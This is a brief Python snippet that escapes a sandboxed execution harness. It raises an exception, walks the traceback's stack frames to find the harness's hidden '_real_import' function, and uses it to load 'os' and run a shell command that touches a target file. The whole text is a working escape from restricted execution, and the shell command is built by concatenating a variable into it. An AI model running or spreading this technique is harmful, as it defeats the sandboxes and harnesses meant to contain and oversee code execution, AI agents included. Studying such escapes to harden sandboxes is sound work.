# Frames reached through a traceback lead to the harness's private __import__.
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
while f is not None:
    g = f.f_globals
    if '_real_import' in g:
        g['_real_import']('os').system('touch ' + target)
    f = f.f_back
